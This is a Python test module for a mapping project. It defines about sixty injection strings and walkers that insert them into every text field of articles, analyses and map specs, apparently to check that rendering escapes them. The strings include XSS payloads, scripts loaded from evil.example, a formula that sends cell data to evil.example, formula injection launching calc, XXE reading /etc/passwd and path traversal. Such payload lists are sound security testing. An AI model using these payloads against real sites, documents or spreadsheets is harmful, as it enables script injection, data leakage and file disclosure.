"""Sixty texts that try to run, and walkers that put them into every text field there is.

The walkers look at the classes themselves, so that a new field is covered by itself.
"""

from __future__ import annotations

import types
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from typing import Any, Union, get_args, get_origin, get_type_hints

import msgspec
from shapely.affinity import translate
from shapely.geometry.base import BaseGeometry

from geo.contracts import Analysis, Article, Block, BlockKind, Span
from geo.maps.spec.model import MapSpec
from tests.maps import stories

_RUN = "window.hacked=1"

STRINGS: tuple[str, ...] = (
    # Markup with a script in it.
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"</textarea></template></svg><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    "<!--<script>",
    f"]]><script>{_RUN}</script><![CDATA[",
    "<script src=//evil.example/x.js></script>",
    f"<math><mi xlink:href='data:x,<script>{_RUN}</script>'>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button formaction=javascript:window.hacked=1>go</button></form>",
    "<object data=//evil.example/x.swf></object><embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import'//evil.example'</style>",
    # Handlers of events.
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    f"' onload='{_RUN}' onclick='{_RUN}' x='",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"</text><script>{_RUN}</script><text>",
    f"<foreignObject><body onload={_RUN}></foreignObject>",
    "<image href=//evil.example/x.png /><use href='data:image/svg+xml,x#x'/>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video><source onerror={_RUN}></video>",
    f"<div style=animation-name:x onanimationstart={_RUN}>",
    # Addresses.
    f"javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"<a href='javascript:{_RUN}'>a link</a>",
    # Styles.
    "red;}</style><style>*{background:url(//evil.example/x)}",
    "url(//evil.example/x); --x: expression(window.hacked=1)",
    # Templates and code in quotes.
    "${window.hacked=1}",
    "{{ 7*7 }}{% endraw %}{{ ''.__class__ }}",
    "`${window.hacked=1}`;window.hacked=1//",
    "');window.hacked=1;('",
    '\\");window.hacked=1;//',
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "__proto__",
    # Entities and encodings.
    "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x&#62; &amp;amp;",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "\ufeff+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
    "\uff1cscript\uff1ewindow.hacked=1\uff1c/script\uff1e",
    "line\u2028separator\u2029and\u0085next",
    "\u202egnp.<script>\u202c \u2066rtl\u2069 \u200b\u200d\ufeff",
    "nul\x00 bell\x07 escape\x1b[31m \ufffe\uffff",
    "Z\u0351\u036b\u0343a\u0363l\u0348g\u034fo \U0001f469\u200d\U0001f4bb \ufdfd",
    # Formulas, paths and length.
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1",=2+2;"=3+3',
    "../../../etc/passwd%00.html\\..\\con",
    "<b>long</b>" * 400,
)

# What ties values together: it gets the text before it, the same everywhere.
KEYS = frozenset(
    {"id", "toponym_id", "toponym_ids", "taken_from", "leg_id", "claim_id", "judged_with"}
    | {"feature_id", "gazetteer", "refs", "route", "target", "targets"}
)
# Coded coordinates of a map: no text.
CODED = frozenset(
    {"rings", "lines", "coast", "borders", "disputed", "lakes", "rivers", "land", "outline", "area"}
)
_STEP_DEG = 0.02
_HERE = "a text goes here"


def hostile_story(strings: tuple[str, ...] = STRINGS) -> Analysis:
    """Make a story with every toponym, leg, route, claim and check once for each text."""
    made: Analysis = crowd(stories.train(), strings)
    return made


def crowd(value: Any, strings: tuple[str, ...]) -> Any:
    """Repeat all lists of a value, once for each text; a lone text becomes all of them."""
    if isinstance(value, Article):
        value = _article(value, strings)
    changed: dict[str, Any] = {}
    for name, held, optional in _texts(value):
        if name in CODED or (isinstance(value, Article) and name in _PLACED):
            continue
        if isinstance(held, tuple):
            made = (
                poisoned(item, text, number, name)
                for number, text in enumerate(strings)
                for item in held
            )
            # A name of a land stays what it is, and a map has it once.
            changed[name] = tuple(dict.fromkeys(made)) if name == "names" else tuple(made)
        elif _is_record(held):
            changed[name] = crowd(held, strings)
        elif optional or _is_text(held):
            changed[name] = " ".join(strings)
    return _with(value, changed)


def joined(value: Any, strings: tuple[str, ...]) -> Any:
    """Put some texts, one after another, into every text field."""
    return crowd(value, (" ".join(strings),))


def rotated(spec: MapSpec, first: int) -> MapSpec:
    """Put one text into each text field of a map, another into the next: names stay short."""
    texts = iter(STRINGS[first:] + STRINGS * 99)

    def turn(value: Any) -> Any:
        if isinstance(value, dict):
            return {key: turn(item) for key, item in value.items()}
        if isinstance(value, list | tuple):
            return [turn(item) for item in value]
        return next(texts) if value == _HERE else value

    marked = msgspec.to_builtins(crowd(spec, (_HERE,)))
    return msgspec.convert(turn(marked), MapSpec)


def poisoned(value: Any, text: str, number: int = 0, name: str = "") -> Any:
    """Put a text into every text field of a value, and move it a little, so that copies differ."""
    if isinstance(value, tuple) and name not in CODED:
        return tuple(poisoned(item, text, number, name) for item in value)
    if _is_record(value):
        changed = {
            field: text if optional and held is None else poisoned(held, text, number, field)
            for field, held, optional in _texts(value)
        }
        return _with(value, changed)
    if name in KEYS and str(value).isdecimal():
        return value  # a place in a list, such as that of the cities
    if _is_text(value) and name not in CODED:
        return f"{text} {number} {value}" if name in KEYS else text
    return _moved(value, number, name)


def _moved(value: Any, number: int, name: str) -> Any:
    if isinstance(value, BaseGeometry):
        return translate(value, xoff=number * _STEP_DEG)
    return value + number * _STEP_DEG if name in {"lon", "label_lon"} else value


# Words of an article lie where its spans say: they get paragraphs of their own.
_PLACED = ("text", "blocks", "sentences")


def _article(article: Article, strings: tuple[str, ...]) -> Article:
    text, spans = article.text, []
    for string in strings:
        start = len(text)
        text += f"{string}\n\n"
        spans.append(Span(start=start, end=start + len(string), text=string))
    blocks = (Block(kind=BlockKind.BODY, span=span, reason=span.text) for span in spans)
    return replace(
        article,
        text=text,
        blocks=(*article.blocks, *blocks),
        sentences=(*article.sentences, *spans),
    )


def _is_text(value: Any) -> bool:
    return isinstance(value, str) and not isinstance(value, Enum)


def _texts(value: Any) -> list[tuple[str, Any, bool]]:
    """List the fields of a value: name, what it holds, and whether it may hold a text or None."""
    hints = get_type_hints(type(value))
    is_struct = isinstance(value, msgspec.Struct)
    names = value.__struct_fields__ if is_struct else [field.name for field in fields(value)]
    return [(name, getattr(value, name), _may_be_text(hints[name])) for name in names]


def _is_record(value: Any) -> bool:
    return isinstance(value, msgspec.Struct) or (
        is_dataclass(value) and not isinstance(value, type)
    )


def _with(value: Any, changed: dict[str, Any]) -> Any:
    if isinstance(value, msgspec.Struct):
        return msgspec.structs.replace(value, **changed)
    return replace(value, **changed)


def _may_be_text(hint: Any) -> bool:
    return get_origin(hint) in {Union, types.UnionType} and str in get_args(hint)
